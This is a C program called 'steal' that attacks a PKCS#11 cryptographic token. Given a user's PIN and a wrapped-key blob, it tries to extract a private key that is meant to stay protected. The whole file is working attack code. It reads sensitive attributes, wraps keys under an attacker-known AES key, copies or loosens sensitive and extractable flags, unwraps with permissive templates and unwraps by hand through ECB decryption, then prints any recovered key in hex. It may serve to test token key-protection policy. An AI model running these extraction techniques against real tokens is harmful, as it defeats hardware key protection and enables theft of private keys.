// Whoever has the user's PIN and a blob tries to read the key in it:
//
//   steal MODULE LABEL PIN-FILE BLOB
//
// Exits 0 and prints the key in hexadecimal (a private value, or a PrivateKeyInfo) only if it got one; 1 if every way
// failed. What was tried goes to standard error. Nothing is left in the token by a run that fails.

#include "cryptoki.h"

static CK_BYTE blob[8192];
static CK_ULONG blob_length;
static CK_BYTE zeros[16];
static int tried;
static CK_BYTE known_value[32] = {7, 7, 7, 7};

static void say(const char *way, CK_RV code) {
    tried++;
    fprintf(stderr, "%-64s 0x%lx\n", way, code);
}

static void won(const char *way, const CK_BYTE *bytes, CK_ULONG count) {
    fprintf(stderr, "READ by: %s\n", way);
    for (CK_ULONG i = 0; i < count; i++) printf("%02x", bytes[i]);
    puts("");
    exit(0);
}

static CK_RV read_attribute(CK_OBJECT_HANDLE object, CK_ATTRIBUTE_TYPE type, CK_BYTE *bytes, CK_ULONG *count) {
    CK_ATTRIBUTE attribute = {type, bytes, *count};
    CK_RV code = f->C_GetAttributeValue(session, object, &attribute, 1);
    *count = code == CKR_OK && attribute.ulValueLen != (CK_ULONG)-1 ? attribute.ulValueLen : 0;
    return code;
}

static void read_key(const char *way, CK_OBJECT_HANDLE key) {
    static const CK_ATTRIBUTE_TYPE secrets[] = {CKA_VALUE, CKA_PRIVATE_EXPONENT, CKA_PRIME_1};
    for (size_t i = 0; i < COUNT(secrets); i++) {
        CK_BYTE bytes[8192];
        CK_ULONG count = sizeof bytes;
        CK_RV code = read_attribute(key, secrets[i], bytes, &count);
        say(way, code);
        if (code == CKR_OK && count) won(way, bytes, count);
    }
}

// The user's own wrapping key, of a known value.
static CK_OBJECT_HANDLE own_key(int trusted, CK_BYTE *value, CK_ULONG length) {
    CK_ATTRIBUTE template[] = {
        {CKA_CLASS, &class_secret, sizeof class_secret}, {CKA_KEY_TYPE, &type_aes, sizeof type_aes},
        {CKA_TOKEN, &no, 1},       {CKA_PRIVATE, &yes, 1},     {CKA_SENSITIVE, &no, 1}, {CKA_EXTRACTABLE, &yes, 1},
        {CKA_WRAP, &yes, 1},       {CKA_UNWRAP, &yes, 1},      {CKA_ENCRYPT, &yes, 1},  {CKA_DECRYPT, &yes, 1},
        {CKA_VALUE, value, length}, {CKA_TRUSTED, &yes, 1},
    };
    CK_OBJECT_HANDLE key = 0;
    CK_RV code = f->C_CreateObject(session, template, COUNT(template) - (trusted ? 0 : 1), &key);
    say(trusted ? "make a trusted key of the user's own" : "make a key of the user's own", code);
    return code == CKR_OK ? key : 0;
}

static void take_apart(CK_OBJECT_HANDLE wrapping, CK_BYTE *bytes, CK_ULONG count);

// Wraps a key under one whose value is known, and reads it from that.
static void wrap_out(const char *way, CK_OBJECT_HANDLE key, CK_OBJECT_HANDLE own) {
    CK_MECHANISM mechanisms[] = {
        {CKM_AES_KEY_WRAP_PAD, NULL, 0}, {CKM_AES_KEY_WRAP, NULL, 0}, {CKM_AES_CBC_PAD, zeros, sizeof zeros},
        {CKM_AES_CBC, zeros, sizeof zeros}, {CKM_AES_ECB, NULL, 0},
    };
    for (size_t i = 0; own && i < COUNT(mechanisms); i++) {
        CK_BYTE wrapped[8192];
        CK_ULONG count = sizeof wrapped;
        CK_RV code = f->C_WrapKey(session, &mechanisms[i], own, key, wrapped, &count);
        say(way, code);
        if (code == CKR_OK) take_apart(own, wrapped, count);
    }
}

static void harvest(const char *way, CK_OBJECT_HANDLE key) {
    CK_ATTRIBUTE loose[] = {
        {CKA_SENSITIVE, &no, 1}, {CKA_EXTRACTABLE, &yes, 1}, {CKA_WRAP_WITH_TRUSTED, &no, 1}, {CKA_PRIVATE, &no, 1},
    };
    read_key(way, key);
    CK_OBJECT_HANDLE own = own_key(0, known_value, sizeof known_value);
    wrap_out("wrap it under the user's own key", key, own);
    for (size_t i = 0; i < COUNT(loose); i++) {
        CK_OBJECT_HANDLE copy = 0;
        CK_RV code = f->C_CopyObject(session, key, &loose[i], 1, &copy);
        say("copy it loosened", code);
        if (code == CKR_OK) {
            read_key("read the copy", copy);
            wrap_out("wrap the copy", copy, own);
            f->C_DestroyObject(session, copy);
        }
        code = f->C_SetAttributeValue(session, key, &loose[i], 1);
        say("loosen it", code);
        if (code == CKR_OK) {
            read_key("read it loosened", key);
            wrap_out("wrap it loosened", key, own);
        }
    }
    if (own) f->C_DestroyObject(session, own);
}

// Unwraps by hand (RFC 5649) through a key that deciphers blocks.
static void unwrap_by_blocks(CK_OBJECT_HANDLE wrapping) {
    CK_MECHANISM ecb = {CKM_AES_ECB, NULL, 0};
    CK_BYTE r[sizeof blob];
    memcpy(r, blob, blob_length);
    long n = (long)blob_length / 8 - 1;
    for (long t = 6 * n; t > 0; t--) {
        CK_BYTE block[16], *at = r + 8 * ((t - 1) % n + 1);
        CK_ULONG count = sizeof block;
        memcpy(block, r, 8);
        for (int i = 0; i < 8; i++) block[7 - i] ^= (CK_BYTE)((unsigned long)t >> (8 * i));
        memcpy(block + 8, at, 8);
        if (f->C_DecryptInit(session, &ecb, wrapping)) return;
        if (f->C_Decrypt(session, block, sizeof block, block, &count)) return;
        memcpy(r, block, 8);
        memcpy(at, block + 8, 8);
    }
    if (r[0] == 0xA6 && r[8] == 0x30) won("blocks deciphered one by one", r + 8, blob_length - 8);
}

// Tries to get at `count` wrapped bytes with a key that unwraps or deciphers.
static void take_apart(CK_OBJECT_HANDLE wrapping, CK_BYTE *bytes, CK_ULONG count) {
    CK_MECHANISM mechanisms[] = {
        {CKM_AES_KEY_WRAP_PAD, NULL, 0}, {CKM_AES_KEY_WRAP, NULL, 0},       {CKM_AES_CBC_PAD, zeros, sizeof zeros},
        {CKM_AES_CBC, zeros, sizeof zeros}, {CKM_AES_ECB, NULL, 0},
    };
    CK_OBJECT_CLASS data = CKO_DATA;
    CK_KEY_TYPE rsa = CKK_RSA;
    struct {
        const char *way;
        CK_ATTRIBUTE attributes[12];
        CK_ULONG count;
    } ways[] = {
#define KEY(class, type) {CKA_CLASS, &class, sizeof class}, {CKA_KEY_TYPE, &type, sizeof type}
        {"unwrap readable", {KEY(class_private, type_ec), {CKA_TOKEN, &no, 1}, {CKA_PRIVATE, &yes, 1},
                             {CKA_SENSITIVE, &no, 1}, {CKA_EXTRACTABLE, &yes, 1}}, 6},
        {"unwrap readable RSA", {KEY(class_private, rsa), {CKA_TOKEN, &no, 1}, {CKA_PRIVATE, &yes, 1},
                                 {CKA_SENSITIVE, &no, 1}, {CKA_EXTRACTABLE, &yes, 1}}, 6},
        {"unwrap extractable", {KEY(class_private, type_ec), {CKA_TOKEN, &no, 1}, {CKA_PRIVATE, &yes, 1},
                                {CKA_SENSITIVE, &yes, 1}, {CKA_EXTRACTABLE, &yes, 1}}, 6},
        {"unwrap with class and type alone", {KEY(class_private, type_ec)}, 2},
        {"unwrap without a template", {{0}}, 0},
        {"unwrap as it should be, and readable", {KEY(class_private, type_ec), {CKA_TOKEN, &no, 1},
            {CKA_PRIVATE, &yes, 1}, {CKA_SENSITIVE, &no, 1}, {CKA_EXTRACTABLE, &no, 1}, {CKA_SIGN, &yes, 1},
            {CKA_DECRYPT, &no, 1}, {CKA_UNWRAP, &no, 1}, {CKA_DERIVE, &no, 1}, {CKA_SIGN_RECOVER, &no, 1}}, 11},
        {"unwrap as it should be, and readable at the end", {KEY(class_private, type_ec), {CKA_TOKEN, &no, 1},
            {CKA_PRIVATE, &yes, 1}, {CKA_SENSITIVE, &yes, 1}, {CKA_EXTRACTABLE, &no, 1}, {CKA_SIGN, &yes, 1},
            {CKA_DECRYPT, &no, 1}, {CKA_UNWRAP, &no, 1}, {CKA_DERIVE, &no, 1}, {CKA_SIGN_RECOVER, &no, 1},
            {CKA_SENSITIVE, &no, 1}}, 12},
        {"unwrap as it should be, extractable at the end", {KEY(class_private, type_ec), {CKA_TOKEN, &no, 1},
            {CKA_PRIVATE, &yes, 1}, {CKA_SENSITIVE, &yes, 1}, {CKA_EXTRACTABLE, &no, 1}, {CKA_SIGN, &yes, 1},
            {CKA_DECRYPT, &no, 1}, {CKA_UNWRAP, &no, 1}, {CKA_DERIVE, &no, 1}, {CKA_SIGN_RECOVER, &no, 1},
            {CKA_EXTRACTABLE, &yes, 1}}, 12},
        {"unwrap as it should be, to loosen it", {KEY(class_private, type_ec), {CKA_TOKEN, &no, 1},
            {CKA_PRIVATE, &yes, 1}, {CKA_SENSITIVE, &yes, 1}, {CKA_EXTRACTABLE, &no, 1}, {CKA_SIGN, &yes, 1},
            {CKA_DECRYPT, &no, 1}, {CKA_UNWRAP, &no, 1}, {CKA_DERIVE, &no, 1}, {CKA_SIGN_RECOVER, &no, 1}}, 11},
        {"unwrap as it must be, to loosen it", {KEY(class_private, type_ec), {CKA_TOKEN, &no, 1},
            {CKA_PRIVATE, &yes, 1}, {CKA_SENSITIVE, &yes, 1}, {CKA_EXTRACTABLE, &no, 1}, {CKA_SIGN, &yes, 1},
            {CKA_DECRYPT, &no, 1}, {CKA_UNWRAP, &no, 1}, {CKA_DERIVE, &no, 1}, {CKA_SIGN_RECOVER, &no, 1},
            {CKA_MODIFIABLE, &no, 1}}, 12},
        {"unwrap as a generic secret", {KEY(class_secret, type_generic), {CKA_TOKEN, &no, 1}, {CKA_PRIVATE, &yes, 1},
                                        {CKA_SENSITIVE, &no, 1}, {CKA_EXTRACTABLE, &yes, 1}}, 6},
        {"unwrap as an AES key", {KEY(class_secret, type_aes), {CKA_TOKEN, &no, 1}, {CKA_PRIVATE, &yes, 1},
                                  {CKA_SENSITIVE, &no, 1}, {CKA_EXTRACTABLE, &yes, 1}}, 6},
        {"unwrap as data", {{CKA_CLASS, &data, sizeof data}, {CKA_TOKEN, &no, 1}}, 2},
#undef KEY
    };
    static int depth;
    if (depth > 1) return;
    depth++;
    for (size_t m = 0; m < COUNT(mechanisms); m++) {
        CK_BYTE plain[8192];
        CK_ULONG length = sizeof plain;
        CK_RV code = f->C_DecryptInit(session, &mechanisms[m], wrapping);
        say("decrypt the blob", code);
        if (code == CKR_OK && f->C_Decrypt(session, bytes, count, plain, &length) == CKR_OK && plain[0] == 0x30)
            won("decrypt", plain, length);
        for (size_t w = 0; w < COUNT(ways); w++) {
            CK_OBJECT_HANDLE key = 0;
            code = f->C_UnwrapKey(session, &mechanisms[m], wrapping, bytes, count,
                                  ways[w].count ? ways[w].attributes : NULL, ways[w].count, &key);
            say(ways[w].way, code);
            if (code != CKR_OK) continue;
            harvest(ways[w].way, key);
            f->C_DestroyObject(session, key);
        }
    }
    if (bytes == blob) unwrap_by_blocks(wrapping);
    depth--;
}

// Gets hold of the wrapping key itself, or of a looser copy of it.
static void attack(CK_OBJECT_HANDLE wrapping) {
    CK_BYTE value[64];
    CK_ULONG count = sizeof value;
    take_apart(wrapping, blob, blob_length);
    CK_RV code = read_attribute(wrapping, CKA_VALUE, value, &count);
    say("read the wrapping key", code);
    if (code == CKR_OK && count) take_apart(own_key(0, value, count), blob, blob_length);
    CK_ATTRIBUTE loose[] = {
        {CKA_DECRYPT, &yes, 1},     {CKA_ENCRYPT, &yes, 1},    {CKA_SENSITIVE, &no, 1},
        {CKA_EXTRACTABLE, &yes, 1}, {CKA_MODIFIABLE, &yes, 1}, {CKA_UNWRAP_TEMPLATE, NULL, 0},
    };
    for (size_t i = 0; i < COUNT(loose); i++) {
        CK_OBJECT_HANDLE copy = 0;
        CK_ATTRIBUTE session_copy[] = {{CKA_TOKEN, &no, 1}, loose[i]};
        code = f->C_CopyObject(session, wrapping, session_copy, 2, &copy);
        say("copy the wrapping key loosened", code);
        if (code == CKR_OK) {
            take_apart(copy, blob, blob_length);
            f->C_DestroyObject(session, copy);
        }
        code = f->C_SetAttributeValue(session, wrapping, &loose[i], 1);
        say("loosen the wrapping key", code);
        if (code == CKR_OK) take_apart(wrapping, blob, blob_length);
    }
    for (int trusted = 0; trusted < 2; trusted++) {
        CK_OBJECT_HANDLE own = own_key(trusted, known_value, sizeof known_value);
        if (!own) continue;
        CK_MECHANISM wrap = {CKM_AES_KEY_WRAP_PAD, NULL, 0};
        CK_BYTE wrapped[256];
        count = sizeof wrapped;
        code = f->C_WrapKey(session, &wrap, own, wrapping, wrapped, &count);
        say("wrap the wrapping key under the user's own", code);
        if (code == CKR_OK) {
            CK_ATTRIBUTE readable[] = {
                {CKA_CLASS, &class_secret, sizeof class_secret}, {CKA_KEY_TYPE, &type_aes, sizeof type_aes},
                {CKA_TOKEN, &no, 1}, {CKA_UNWRAP, &yes, 1}, {CKA_DECRYPT, &yes, 1},
            };
            CK_OBJECT_HANDLE same = 0;
            if (f->C_UnwrapKey(session, &wrap, own, wrapped, count, readable, COUNT(readable), &same) == CKR_OK)
                take_apart(same, blob, blob_length);
        }
        f->C_DestroyObject(session, own);
    }
}

static CK_ULONG find(CK_OBJECT_CLASS *class, CK_OBJECT_HANDLE *found, CK_ULONG capacity) {
    CK_ATTRIBUTE template = {CKA_CLASS, class, sizeof *class};
    CK_ULONG count = 0;
    must(f->C_FindObjectsInit(session, &template, 1), "C_FindObjectsInit");
    must(f->C_FindObjects(session, found, capacity, &count), "C_FindObjects");
    f->C_FindObjectsFinal(session);
    return count;
}

int main(int count, char **arguments) {
    if (count != 5) {
        fprintf(stderr, "steal MODULE LABEL PIN-FILE BLOB\n");
        return 2;
    }
    open_token(arguments[1], arguments[2]);
    login(CKU_USER, arguments[3]);
    blob_length = read_file(arguments[4], blob, sizeof blob);
    CK_OBJECT_HANDLE keys[64];
    CK_ULONG found = find(&class_secret, keys, COUNT(keys));
    if (!found) {
        fprintf(stderr, "no wrapping key is to be seen\n");
        return 2;
    }
    for (CK_ULONG i = 0; i < found; i++) attack(keys[i]);
    found = find(&class_private, keys, COUNT(keys));
    for (CK_ULONG i = 0; i < found; i++) harvest("a key in the token", keys[i]);
    fprintf(stderr, "%d tries, no key\n", tried);
    return 1;
}
